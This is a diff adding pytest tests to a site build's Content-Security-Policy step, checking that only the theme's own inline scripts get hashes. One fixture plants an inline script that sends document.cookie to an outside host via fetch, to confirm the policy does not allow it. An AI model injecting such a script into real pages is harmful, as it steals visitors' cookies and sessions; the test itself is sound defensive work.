@@ -47,3 +47,41 @@ def test_every_built_page_has_the_policy_first_and_it_allows_each_inline_script(
             digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode("ascii")
             assert f"'sha256-{digest}'" in first.group(1), page
     assert len(policies) == 1  # one policy: instant navigation keeps the first page's
+
+
+def _page(scripts: str, depth: str = "..") -> str:
+    """A page as Material writes it (its scope script, its tabs script), with *scripts* in its body."""
+    scope = (
+        f'__md_scope=new URL("{depth}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
+        "__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+\".\"+e)),"
+        "__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+\".\"+e,JSON.stringify(_))}catch(e){}}"
+    )
+    tabs = 'var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
+    return f'<!doctype html><html><head><meta charset="utf-8"><script>{scope}</script></head><body><p>x</p>{scripts}<script>{tabs}</script></body></html>'
+
+
+def test_a_foreign_inline_script_in_a_page_gets_no_hash(tmp_path) -> None:
+    # every inline script found in the built pages was hashed into the policy, so a script that
+    # slipped into a page (through a plugin, a template, unsanitised content) was blessed by it
+    import base64
+    import hashlib
+
+    from pokerlaws.site.policy import apply_policy
+
+    def digest(script: str) -> str:
+        return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode("ascii") + "'"
+
+    (tmp_path / "a").mkdir()
+    (tmp_path / "index.html").write_text(_page("", "."), encoding="utf-8")
+    (tmp_path / "a" / "index.html").write_text(_page("<script>fetch('https://example.org/?'+document.cookie)</script>"), encoding="utf-8")
+    assert apply_policy(tmp_path) == 2
+    text = (tmp_path / "a" / "index.html").read_text(encoding="utf-8")
+    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text).group(1)
+    scripts = inline_scripts(text)
+    assert len(scripts) == 3
+    foreign = [s for s in scripts if "fetch(" in s]
+    assert digest(foreign[0]) not in csp
+    for theirs in scripts:  # the theme's, at either depth, are allowed
+        if theirs not in foreign:
+            assert digest(theirs) in csp
+    assert csp.count("'sha256-") == 3  # the scope script at two depths, and the tabs script
